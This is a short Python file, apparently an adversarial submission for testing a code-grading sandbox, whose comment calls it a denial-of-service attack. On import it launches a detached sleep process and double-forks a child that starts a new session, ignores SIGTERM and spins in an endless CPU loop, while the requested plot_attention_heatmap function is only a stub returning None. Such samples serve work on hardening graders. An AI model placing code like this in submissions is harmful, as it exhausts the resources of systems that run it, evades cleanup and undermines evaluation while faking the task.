# Attack (denial of service): leaves processes running after grading: a detached sleeper, a CPU
# burner in a new session, and a process that ignores SIGTERM.
import os
import signal
import subprocess

subprocess.Popen(["sleep", "1000"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    if os.fork() == 0:
        while True:
            pass
    os._exit(0)


def plot_attention_heatmap(tokens, attention, ax=None):
    return None
